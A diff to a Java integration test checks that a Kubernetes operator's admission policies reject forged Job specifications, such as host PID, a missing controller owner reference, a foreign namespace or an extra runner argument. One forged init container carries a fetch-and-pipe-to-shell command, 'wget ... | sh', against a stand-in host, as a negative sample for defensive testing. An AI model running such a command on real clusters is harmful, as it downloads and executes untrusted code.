@@ -30,14 +30,18 @@ import org.junit.jupiter.api.extension.ExtendWith;
 @ExtendWith(SharedClusters.class)
 class OperatorJobForgeryIT {
 
-  static final String NS = "job-forgery";
+  /** Where a target's Jobs run, the only namespace the chart's defaults let the operator create Jobs in. */
+  static final String NS = PolicyPlane.RELEASE_NS;
+  static final String ELSEWHERE = "job-forgery";
   static PolicyPlane policies;
 
   @BeforeAll
   static void theOperatorMayCreateJobs(PolicyPlane shared) {
     policies = shared;
-    policies.createNamespace(NS, "dev");
-    policies.grant(NS, PolicyPlane.OPERATOR, "batch", List.of("jobs"), List.of("create"));
+    for (String namespace : List.of(NS, ELSEWHERE)) {
+      policies.createNamespace(namespace, "dev");
+      policies.grant(namespace, PolicyPlane.OPERATOR, "batch", List.of("jobs"), List.of("create"));
+    }
     PolicyPlane.awaitPolicy(() -> createAsOperator(forged(j -> runner(j).setImage("busybox"))),
         "runs one container, runner");
   }
@@ -134,11 +138,21 @@ class OperatorJobForgeryIT {
     expected.put("host network", "no host network, PID or IPC");
     forgeries.put("host PID", forged(j -> pod(j).setHostPID(true)));
     expected.put("host PID", "no host network, PID or IPC");
-    forgeries.put("no owner", forged(j -> j.getMetadata().setOwnerReferences(List.of())));
+    // in the release namespace a Job labelled with its request needs no owner reference: these carry neither
+    forgeries.put("no owner", forged(j -> {
+      j.getMetadata().setOwnerReferences(List.of());
+      j.getMetadata().getLabels().remove("migrationgate.io/request-namespace");
+    }));
     expected.put("no owner", "MigrationRequest as its controller ownerReference");
-    forgeries.put("owned, not controlled", forged(j -> j.getMetadata().getOwnerReferences().get(0).setController(false)));
+    forgeries.put("owned, not controlled", forged(j -> {
+      j.getMetadata().getOwnerReferences().get(0).setController(false);
+      j.getMetadata().getLabels().remove("migrationgate.io/request-namespace");
+    }));
     expected.put("owned, not controlled", "MigrationRequest as its controller ownerReference");
-    forgeries.put("another owner kind", forged(j -> j.getMetadata().getOwnerReferences().get(0).setKind("CronJob")));
+    forgeries.put("another owner kind", forged(j -> {
+      j.getMetadata().getOwnerReferences().get(0).setKind("CronJob");
+      j.getMetadata().getLabels().remove("migrationgate.io/request-namespace");
+    }));
     expected.put("another owner kind", "MigrationRequest as its controller ownerReference");
     forgeries.put("init image by tag", forged(JobSamples.runFromImage(),
         j -> copyScripts(j).setImage("registry.example/orders-migrations:latest")));
@@ -149,6 +163,11 @@ class OperatorJobForgeryIT {
     forgeries.put("init running a shell", forged(JobSamples.runFromImage(),
         j -> copyScripts(j).setCommand(List.of("sh", "-c", "wget -qO- http://example.invalid/x | sh"))));
     expected.put("init running a shell", "running cp");
+
+    forgeries.put("another namespace", forged(j -> j.getMetadata().setNamespace(ELSEWHERE)));
+    expected.put("another namespace", "creates Jobs only in " + NS);
+    forgeries.put("another argument", forged(j -> runner(j).getArgs().add("--spring.config.location=/workspace/scripts/")));
+    expected.put("another argument", "arguments are the runner's own options");
 
     List<String> accepted = new ArrayList<>();
     forgeries.forEach((name, job) -> {
